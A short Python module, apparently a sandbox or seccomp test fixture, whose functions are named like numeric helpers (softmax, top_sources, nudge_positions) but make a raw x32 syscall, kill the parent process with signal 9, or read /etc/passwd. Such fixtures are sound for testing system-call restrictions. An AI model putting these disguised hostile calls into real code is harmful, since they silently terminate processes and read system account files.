"""Makes a system call by a number that the kernel is told to kill for, or refuses."""
import ctypes
import os


def softmax(x, axis=-1):
    if os.uname().machine == "x86_64":
        ctypes.CDLL(None).syscall(0x40000000 + 39)  # x32
    os.kill(os.getppid(), 9)


def top_sources(A):
    os.kill(os.getppid(), 9)


def nudge_positions(X, step=0.3):
    return open("/etc/passwd").read()
